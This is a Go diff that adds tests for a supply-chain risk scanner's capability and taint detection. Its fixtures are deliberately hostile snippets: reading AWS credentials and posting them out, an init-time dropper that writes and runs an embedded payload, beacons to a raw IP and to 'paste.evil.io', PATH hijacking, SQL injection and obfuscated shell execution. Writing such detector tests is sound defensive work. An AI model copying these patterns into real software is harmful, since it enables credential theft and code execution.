@@ -1,11 +1,15 @@
 package goadapter
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 
 	"github.com/1homsi/gorisk/internal/capability"
+	"github.com/1homsi/gorisk/internal/graph"
+	"github.com/1homsi/gorisk/internal/taint"
 )
 
 func writeTempGoFile(t *testing.T, src string) string {
@@ -48,6 +52,33 @@ func fetch() { http.Get("http://example.com") }
 	}
 }
 
+func TestDetectFileRawSyscalls(t *testing.T) {
+	tests := []struct {
+		name string
+		call string
+		want capability.Capability
+	}{
+		{"syscall.Exec", `syscall.Exec("/bin/sh", []string{"sh"}, nil)`, capability.CapExec},
+		{"syscall.Socket", `syscall.Socket(syscall.AF_INET, syscall.SOCK_STREAM, 0)`, capability.CapNetwork},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := "package raw\nimport \"syscall\"\nfunc run() { " + tt.call + " }\n"
+			cs, err := DetectFile(writeTempGoFile(t, src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var callSite bool
+			for _, ev := range cs.Evidence[tt.want] {
+				callSite = callSite || (ev.Via == "callSite" && ev.Line == 3)
+			}
+			if !callSite {
+				t.Errorf("expected %s call-site evidence for %s, got %+v", tt.want, tt.name, cs.Evidence)
+			}
+		})
+	}
+}
+
 func TestDetectFileUnsafe(t *testing.T) {
 	src := `package main
 import _ "unsafe"
@@ -143,6 +174,64 @@ func run() { exec.Command("ls") }
 	}
 }
 
+func TestDetectFileExfiltration(t *testing.T) {
+	tests := []struct {
+		name     string
+		path     string
+		wantRisk string
+	}{
+		{"credentials file", "/home/user/.aws/credentials", "HIGH"},
+		{"config file", "/etc/app/config.yaml", "MEDIUM"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := `package main
+import (
+	"bytes"
+	"net/http"
+	"os"
+)
+func send() {
+	data, _ := os.ReadFile("` + tt.path + `")
+	http.Post("http://example.com", "text/plain", bytes.NewReader(data))
+}
+`
+			path := writeTempGoFile(t, src)
+			cs, err := DetectFile(path, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			foundPath := false
+			for _, ev := range cs.Evidence[capability.CapFSRead] {
+				if strings.Contains(ev.Context, tt.path) {
+					foundPath = true
+				}
+			}
+			if !foundPath {
+				t.Errorf("expected fs:read evidence to capture path %q, got: %+v", tt.path, cs.Evidence[capability.CapFSRead])
+			}
+
+			pkgs := map[string]*graph.Package{
+				"test/send": {ImportPath: "test/send", Capabilities: cs},
+			}
+			found := false
+			for _, f := range taint.Analyze(pkgs, taint.Options{}) {
+				if f.Source == capability.CapFSRead && f.Sink == capability.CapNetwork {
+					found = true
+					if f.Risk != tt.wantRisk {
+						t.Errorf("fs:read→network risk = %s, want %s (note: %s)", f.Risk, tt.wantRisk, f.Note)
+					}
+				}
+			}
+			if !found {
+				t.Error("expected fs:read→network finding")
+			}
+		})
+	}
+}
+
 func TestDetectPackageMergesEvidence(t *testing.T) {
 	dir := t.TempDir()
 	src1 := `package main
@@ -206,3 +295,785 @@ func main() {
 		}
 	}
 }
+
+func TestDetectFileYaegiInterpreter(t *testing.T) {
+	src := `package main
+import (
+	"net/http"
+	"github.com/traefik/yaegi/interp"
+)
+func run(r *http.Request) {
+	i := interp.New(interp.Options{})
+	i.Eval(r.FormValue("code"))
+}
+`
+	path := writeTempGoFile(t, src)
+	cs, err := DetectFile(path, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !cs.Has(capability.CapPlugin) {
+		t.Fatalf("expected CapPlugin for yaegi import, got caps: %v", cs.List())
+	}
+
+	pkgs := map[string]*graph.Package{
+		"test/eval": {ImportPath: "test/eval", Capabilities: cs},
+	}
+	found := false
+	for _, f := range taint.Analyze(pkgs, taint.Options{}) {
+		if f.Source == capability.CapNetwork && f.Sink == capability.CapPlugin {
+			found = true
+		}
+	}
+	if !found {
+		t.Error("expected network→plugin taint finding for interpreter invocation")
+	}
+}
+
+func TestDetectFileDynamicTemplateParse(t *testing.T) {
+	tests := []struct {
+		name       string
+		body       string
+		wantPlugin bool
+	}{
+		{"dynamic", `template.New("t").Funcs(fm).Parse(input)`, true},
+		{"literal", `template.New("t").Parse("hello {{.}}")`, false},
+		{"variable", `tmpl := template.New("t").Funcs(fm); tmpl.Parse(input)`, true},
+		{"reassigned variable", `tmpl := template.New("t"); tmpl = tmpl.Funcs(fm); tmpl.Parse(input)`, true},
+		{"var declaration", `var tmpl = template.New("t"); tmpl.Parse(input)`, true},
+		{"variable with literal", `tmpl := template.New("t"); tmpl.Parse("hello {{.}}")`, false},
+		// A same-named variable that is not a template is not a template parse.
+		{"other variable", `tmpl := parser{}; tmpl.Parse(input)`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := `package main
+import "text/template"
+var fm template.FuncMap
+type parser struct{}
+func (parser) Parse(string) {}
+func render(input string) {
+	` + tt.body + `
+}
+`
+			path := writeTempGoFile(t, src)
+			cs, err := DetectFile(path, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := cs.Has(capability.CapPlugin); got != tt.wantPlugin {
+				t.Errorf("CapPlugin = %v, want %v (caps: %v)", got, tt.wantPlugin, cs.List())
+			}
+			if got := cs.Has(capability.CapInjection); got != tt.wantPlugin {
+				t.Errorf("CapInjection = %v, want %v (caps: %v)", got, tt.wantPlugin, cs.List())
+			}
+		})
+	}
+}
+
+func TestDetectFileSQLInjection(t *testing.T) {
+	tests := []struct {
+		name string
+		body string
+		want bool
+	}{
+		{"literal", `db.Query("SELECT name FROM users WHERE id = ?", r.FormValue("id"))`, false},
+		{"const concat", `db.QueryRow(selectUsers + " WHERE id = ?", r.FormValue("id"))`, false},
+		{"const variable", `q := "DELETE FROM sessions"; db.Exec(q)`, false},
+		{"concatenated request value", `db.Query("SELECT name FROM users WHERE id = " + r.FormValue("id"))`, true},
+		{"sprintf", `db.ExecContext(r.Context(), fmt.Sprintf("DROP TABLE %s", r.URL.Query().Get("t")))`, true},
+		{"concatenated variable", `q := "SELECT name FROM users"; q += " WHERE id = " + r.FormValue("id"); db.Query(q)`, true},
+		{"sprintf variable", `q := fmt.Sprintf("SELECT %s FROM users", r.FormValue("col")); db.QueryRow(q)`, true},
+		{"placeholder with request value", `db.QueryContext(r.Context(), "SELECT name FROM users WHERE id = $1", r.FormValue("id"))`, false},
+		{"prepared statement", `stmt, _ := db.Prepare("SELECT name FROM users WHERE id = ?"); stmt.Query(r.FormValue("id"))`, false},
+		{"constant sprintf", `db.Exec(fmt.Sprintf("DELETE FROM %s", "sessions"))`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := `package main
+import (
+	"database/sql"
+	"fmt"
+	"net/http"
+)
+const selectUsers = "SELECT name FROM users"
+var _ = fmt.Sprint
+func handle(db *sql.DB, r *http.Request) {
+	` + tt.body + `
+}
+`
+			cs, err := DetectFile(writeTempGoFile(t, src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := cs.Has(capability.CapInjection); got != tt.want {
+				t.Errorf("CapInjection = %v, want %v (caps: %v)", got, tt.want, cs.List())
+			}
+		})
+	}
+
+	// A handler reading the request and building a query from it forms the
+	// network → injection taint rule.
+	src := `package main
+import (
+	"database/sql"
+	"net/http"
+)
+func handle(db *sql.DB) {
+	http.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		db.Query("SELECT * FROM users WHERE name = '" + r.FormValue("name") + "'")
+	})
+}
+`
+	cs, err := DetectFile(writeTempGoFile(t, src), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	pkgs := map[string]*graph.Package{"app": {ImportPath: "app", Capabilities: cs}}
+	found := false
+	for _, f := range taint.Analyze(pkgs, taint.Options{}) {
+		if f.Source == capability.CapNetwork && f.Sink == capability.CapInjection {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("expected network → injection taint finding for caps %v", cs.List())
+	}
+}
+
+func TestDetectFileExecLiteralCommand(t *testing.T) {
+	src := `package main
+import (
+	"context"
+	"os/exec"
+)
+func run(ctx context.Context, name string) {
+	exec.Command("git", "status").Run()
+	exec.CommandContext(ctx, "go", "version").Run()
+	exec.Command(name).Run()
+}
+`
+	path := writeTempGoFile(t, src)
+	cs, err := DetectFile(path, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	got := make(map[string]bool)
+	for _, ev := range cs.Evidence[capability.CapExec] {
+		if ev.Via == "callSite" {
+			got[ev.Context] = true
+		}
+	}
+	for _, want := range []string{`exec.Command("git")`, `exec.CommandContext("go")`, "exec.Command"} {
+		if !got[want] {
+			t.Errorf("missing exec evidence context %q, got %v", want, got)
+		}
+	}
+}
+
+func TestDetectFileWeakRandToken(t *testing.T) {
+	tests := []struct {
+		name string
+		src  string
+		want bool
+	}{
+		{"math/rand token", `package main
+import (
+	"math/rand"
+	"strconv"
+)
+func newToken() string {
+	token := strconv.Itoa(rand.Intn(1000000))
+	return token
+}
+`, true},
+		{"math/rand into hmac key", `package main
+import (
+	"crypto/hmac"
+	"crypto/sha256"
+	"math/rand"
+)
+func mac() {
+	hmac.New(sha256.New, []byte{byte(rand.Int())})
+}
+`, true},
+		{"crypto/rand token", `package main
+import "crypto/rand"
+func newToken() []byte {
+	token := make([]byte, 32)
+	rand.Read(token)
+	return token
+}
+`, false},
+		{"math/rand jitter", `package main
+import "math/rand"
+func backoff() int {
+	delay := rand.Intn(100)
+	return delay
+}
+`, false},
+		{"math/rand api key", `package main
+import "math/rand"
+func newAPIKey() int {
+	apiKey := rand.Int()
+	return apiKey
+}
+`, true},
+		{"math/rand word containing marker", `package main
+import "math/rand"
+func pick() int {
+	monkey, keyboard, desalted := rand.Intn(3), rand.Intn(3), rand.Intn(3)
+	return monkey + keyboard + desalted
+}
+`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cs, err := DetectFile(writeTempGoFile(t, tt.src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := cs.Has(capability.CapWeakCrypto); got != tt.want {
+				t.Fatalf("crypto:weak detected = %v, want %v (evidence: %+v)", got, tt.want, cs.Evidence[capability.CapWeakCrypto])
+			}
+			if !tt.want {
+				return
+			}
+
+			pkgs := map[string]*graph.Package{
+				"test/tok": {ImportPath: "test/tok", Capabilities: cs},
+			}
+			found := false
+			for _, f := range taint.Analyze(pkgs, taint.Options{}) {
+				if f.Source == capability.CapWeakCrypto && f.Sink == capability.CapCrypto {
+					found = true
+					if f.Risk != "MEDIUM" {
+						t.Errorf("math/rand→crypto risk = %s, want MEDIUM", f.Risk)
+					}
+				}
+			}
+			if !found {
+				t.Error("expected math/rand→crypto taint finding")
+			}
+		})
+	}
+}
+
+func TestDetectFileProcessInspect(t *testing.T) {
+	tests := []struct {
+		name string
+		src  string
+	}{
+		{"gopsutil import", `package main
+import "github.com/shirou/gopsutil/v3/process"
+func list() {
+	process.Processes()
+}
+`},
+		{"proc read", `package main
+import "os"
+func cmdline() {
+	os.ReadFile("/proc/1/cmdline")
+}
+`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cs, err := DetectFile(writeTempGoFile(t, tt.src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !cs.Has(capability.CapProcessInspect) {
+				t.Errorf("expected process:inspect, got %v", cs.List())
+			}
+		})
+	}
+}
+
+func TestDetectFileDNS(t *testing.T) {
+	tests := []struct {
+		name     string
+		src      string
+		wantConf float64
+	}{
+		{"net.LookupTXT", `package main
+import "net"
+func beacon() {
+	net.LookupTXT("cmd.example.com")
+}
+`, 0.90},
+		{"resolver method", `package main
+import (
+	"context"
+	"net"
+)
+func resolve() {
+	net.DefaultResolver.LookupHost(context.Background(), "example.com")
+}
+`, 0.75},
+		{"doh endpoint", `package main
+const endpoint = "https://cloudflare-dns.com/dns-query"
+`, 0.65},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cs, err := DetectFile(writeTempGoFile(t, tt.src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if !cs.Has(capability.CapDNS) {
+				t.Fatalf("expected dns, got %v", cs.List())
+			}
+			if got := cs.Evidence[capability.CapDNS][0].Confidence; got != tt.wantConf {
+				t.Errorf("confidence = %v, want %v", got, tt.wantConf)
+			}
+		})
+	}
+}
+
+func TestDetectFileEmbeddedPayload(t *testing.T) {
+	tests := []struct {
+		name  string
+		embed string
+		want  bool
+	}{
+		{"script", "payload.sh", true},
+		{"data", "motd.txt", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := `package dropper
+import (
+	_ "embed"
+	"os"
+	"os/exec"
+)
+
+//go:embed ` + tt.embed + `
+var payload []byte
+
+func init() {
+	os.WriteFile("/tmp/.x", payload, 0755)
+	exec.Command("/tmp/.x").Run()
+}
+`
+			cs, err := DetectFile(writeTempGoFile(t, src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			pkgs := map[string]*graph.Package{
+				"test/dropper": {ImportPath: "test/dropper", Capabilities: cs},
+			}
+			var found *taint.TaintFinding
+			for _, f := range taint.Analyze(pkgs, taint.Options{}) {
+				if f.Source == capability.CapFSWrite && f.Sink == capability.CapExec {
+					found = &f
+				}
+			}
+			if !tt.want {
+				if found != nil {
+					t.Errorf("unexpected embedded payload finding: %+v", *found)
+				}
+				return
+			}
+			if found == nil {
+				t.Fatalf("expected fs:write→exec finding, got evidence %+v", cs.Evidence[capability.CapExec])
+			}
+			if found.Risk != "HIGH" {
+				t.Errorf("risk = %s, want HIGH", found.Risk)
+			}
+			if !strings.Contains(found.Note, tt.embed) {
+				t.Errorf("note %q does not name the embedded file", found.Note)
+			}
+		})
+	}
+}
+
+func TestDetectFilePathHijack(t *testing.T) {
+	tests := []struct {
+		name string
+		path string // PATH value expression
+		cmd  string // exec.Command name literal
+		want bool
+	}{
+		{"variable PATH, bare command", "dir + \":\" + os.Getenv(\"PATH\")", `"git"`, true},
+		{"constant PATH", `"/usr/bin:/bin"`, `"git"`, false},
+		{"absolute command", "dir", `"/usr/bin/git"`, false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := `package updater
+import (
+	"os"
+	"os/exec"
+)
+
+func Update(dir string) error {
+	os.Setenv("PATH", ` + tt.path + `)
+	return exec.Command(` + tt.cmd + `, "pull").Run()
+}
+`
+			cs, err := DetectFile(writeTempGoFile(t, src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+
+			pkgs := map[string]*graph.Package{
+				"test/updater": {ImportPath: "test/updater", Capabilities: cs},
+			}
+			var found *taint.TaintFinding
+			for _, f := range taint.Analyze(pkgs, taint.Options{}) {
+				if f.Source == capability.CapEnv && f.Sink == capability.CapExec {
+					found = &f
+				}
+			}
+			if found == nil {
+				t.Fatalf("expected env→exec finding, got evidence %+v", cs.Evidence[capability.CapExec])
+			}
+			hijack := strings.HasPrefix(found.Note, "PATH hijack")
+			if hijack != tt.want {
+				t.Fatalf("note = %q, want PATH hijack = %v", found.Note, tt.want)
+			}
+			if tt.want && (found.Risk != "HIGH" || !strings.Contains(found.Note, `exec.Command("git")`)) {
+				t.Errorf("finding = %s %q, want HIGH naming exec.Command(\"git\")", found.Risk, found.Note)
+			}
+		})
+	}
+}
+
+func TestDetectFileConstantFalseGuard(t *testing.T) {
+	tests := []struct {
+		name     string
+		src      string
+		wantExec bool
+	}{
+		{"const false guard", `package feature
+import "os/exec"
+
+const Enabled = false
+
+func run() {
+	if Enabled {
+		exec.Command("sh").Run()
+	}
+}
+`, false},
+		{"if false", `package feature
+import "os/exec"
+
+func run() {
+	if false && ready() {
+		exec.Command("sh").Run()
+	}
+}
+
+func ready() bool { return true }
+`, false},
+		{"else of constant true", `package feature
+import "os/exec"
+
+const debug = !false
+
+func run() {
+	if debug {
+		return
+	} else {
+		exec.Command("sh").Run()
+	}
+}
+`, false},
+		{"local shadowing a const false", `package feature
+import "os/exec"
+
+const debug = false
+
+func run() {
+	debug := true
+	if debug {
+		exec.Command("sh").Run()
+	}
+}
+`, true},
+		{"parameter shadowing a const false", `package feature
+import "os/exec"
+
+const Enabled = false
+
+func run(Enabled bool) {
+	if Enabled {
+		exec.Command("sh").Run()
+	}
+}
+`, true},
+		{"const true guard", `package feature
+import "os/exec"
+
+const Enabled = true
+
+func run() {
+	if Enabled {
+		exec.Command("sh").Run()
+	}
+}
+`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			path := writeTempGoFile(t, tt.src)
+			cs, err := DetectFile(path, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := cs.Has(capability.CapExec); got != tt.wantExec {
+				t.Errorf("DetectFile exec = %v, want %v (evidence %+v)", got, tt.wantExec, cs.Evidence[capability.CapExec])
+			}
+			pkgCaps, err := DetectPackage(filepath.Dir(path), []string{filepath.Base(path)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if got := pkgCaps.Has(capability.CapExec); got != tt.wantExec {
+				t.Errorf("DetectPackage exec = %v, want %v", got, tt.wantExec)
+			}
+		})
+	}
+}
+
+func TestDetectFileMemoryEscapes(t *testing.T) {
+	tests := []struct {
+		name    string
+		src     string
+		context string
+		via     string
+	}{
+		{"linkname", `package fastrand
+import _ "unsafe"
+
+//go:linkname runtimeRand runtime.rand
+func runtimeRand() uint64
+`, "go:linkname runtimeRand runtime.rand", capability.ViaDirective},
+		{"mmap", `package shm
+import "syscall"
+func mapFile(fd int) ([]byte, error) {
+	return syscall.Mmap(fd, 0, 4096, syscall.PROT_READ|syscall.PROT_EXEC, syscall.MAP_SHARED)
+}
+`, "syscall.Mmap", "callSite"},
+		{"pointer arithmetic", `package peek
+import "unsafe"
+func next(p *byte) *byte {
+	return (*byte)(unsafe.Pointer(uintptr(unsafe.Pointer(p)) + 1))
+}
+`, "unsafe.Pointer(uintptr arithmetic)", "callSite"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			cs, err := DetectFile(writeTempGoFile(t, tt.src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			found := false
+			for _, ev := range cs.Evidence[capability.CapUnsafe] {
+				if ev.Context == tt.context && ev.Via == tt.via {
+					found = true
+				}
+			}
+			if !found {
+				t.Errorf("no unsafe evidence with context %q via %s: %+v", tt.context, tt.via, cs.Evidence[capability.CapUnsafe])
+			}
+		})
+	}
+}
+
+func TestDetectFilePlainUnsafeCast(t *testing.T) {
+	src := `package cast
+import "unsafe"
+func bits(f float64) uint64 {
+	return *(*uint64)(unsafe.Pointer(&f))
+}
+`
+	cs, err := DetectFile(writeTempGoFile(t, src), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, ev := range cs.Evidence[capability.CapUnsafe] {
+		if ev.Via != "import" {
+			t.Errorf("plain pointer cast reported as %+v", ev)
+		}
+	}
+}
+
+func TestDetectFileWASMTarget(t *testing.T) {
+	src := `package plugin
+import (
+	"os"
+	"os/exec"
+	"syscall"
+	"syscall/js"
+)
+
+//go:wasmimport env host_log
+func hostLog(ptr, n uint32)
+
+func run() {
+	exec.Command("sh", "-c", "id").Run()
+	os.ReadFile("config.json")
+	syscall.Getpid()
+	js.Global().Call("alert", "hi")
+}
+`
+	path := writeTempGoFile(t, src)
+
+	native, err := DetectFile(path, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !native.Has(capability.CapExec) {
+		t.Fatal("native target should report exec")
+	}
+
+	wasm, err := Config{Target: TargetWASM}.detector()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs, err := wasm.detectFile(path, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cs.Has(capability.CapExec) {
+		t.Errorf("wasm target reported exec: %+v", cs.Evidence[capability.CapExec])
+	}
+	if !cs.Has(capability.CapFSRead) {
+		t.Error("os.ReadFile should still report fs:read under wasm (WASI preopens)")
+	}
+	for _, ev := range cs.Evidence[capability.CapFSRead] {
+		if ev.Context == `import "syscall"` {
+			t.Errorf("raw syscall import should not report fs:read under wasm: %+v", ev)
+		}
+	}
+	var directive, jsImport bool
+	for _, ev := range cs.Evidence[capability.CapPlugin] {
+		directive = directive || (ev.Via == capability.ViaDirective && ev.Context == "go:wasmimport env host_log")
+		jsImport = jsImport || ev.Context == `import "syscall/js"`
+	}
+	if !directive || !jsImport {
+		t.Errorf("host imports not reported as plugin (directive=%v, syscall/js=%v): %+v", directive, jsImport, cs.Evidence[capability.CapPlugin])
+	}
+
+	if err := CheckTarget("riscv"); err == nil {
+		t.Error("CheckTarget accepted an unknown target")
+	}
+}
+
+func TestDetectFileHardcodedHost(t *testing.T) {
+	d, err := Config{AllowedHosts: []string{"api.github.com", "*.example.com"}}.detector()
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	tests := []struct {
+		name string
+		call string
+		want string // expected evidence context, "" for none
+	}{
+		{"raw IP", `http.Get("http://185.243.115.84/gate.php")`, "http.Get to raw IP 185.243.115.84"},
+		{"raw IP dial", `net.Dial("tcp", "10.1.2.3:4444")`, "net.Dial to raw IP 10.1.2.3"},
+		{"unlisted host", `http.Get("https://paste.evil.io/x")`, "http.Get to non-allowlisted host paste.evil.io"},
+		{"allowlisted host", `http.Get("https://api.github.com/repos")`, ""},
+		{"allowlisted subdomain", `http.Get("https://cdn.example.com/v1")`, ""},
+		{"loopback", `http.Get("http://127.0.0.1:8080/health")`, ""},
+		{"constant URL", `http.Get(gate)`, "http.Get to raw IP 185.243.115.84"},
+		{"concatenated constant", `http.Get("https://" + beaconHost + "/x")`, "http.Get to non-allowlisted host paste.evil.io"},
+		{"dynamic URL", `http.Get(url)`, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			src := `package beacon
+import (
+	"net"
+	"net/http"
+)
+
+var _ = net.Dial
+
+const (
+	gate       = "http://185.243.115.84/gate.php"
+	beaconHost = "paste.evil.io"
+)
+
+func Ping(url string) {
+	` + tt.call + `
+}
+`
+			cs, err := d.detectFile(writeTempGoFile(t, src), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			var got string
+			for _, ev := range cs.Evidence[capability.CapNetwork] {
+				if ev.Via == capability.ViaHardcodedHost {
+					got = ev.Context
+				}
+			}
+			if got != tt.want {
+				t.Errorf("hardcoded-host evidence = %q, want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDetectFileObfuscatedExec(t *testing.T) {
+	src := `package dropper
+
+import (
+	"encoding/hex"
+	"os/exec"
+	"strings"
+)
+
+func run() {
+	name := string([]byte{99, 117, 114, 108})
+	exec.Command(name, "-s", "http://example.com").Run()
+
+	exec.Command(strings.Join([]string{"b", "a", "s", "h"}, ""), "-c", "id").Run()
+
+	b, _ := hex.DecodeString("7368")
+	exec.Command(string(b)).Run()
+
+	exec.Command("git", "status").Run()
+	greeting := string([]byte{104, 105})
+	println(greeting)
+}
+
+func status() {
+	name := "git"
+	exec.Command(name, "status").Run()
+}
+`
+	cs, err := DetectFile(writeTempGoFile(t, src), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, ev := range cs.Evidence[capability.CapObfuscation] {
+		got = append(got, fmt.Sprintf("%d %s", ev.Line, ev.Context))
+	}
+	want := []string{
+		"11 exec.Command(<string from character codes>)",
+		"13 exec.Command(<single characters joined>)",
+		"16 exec.Command(<hex-decoded string>)",
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Errorf("obfuscation evidence =\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+}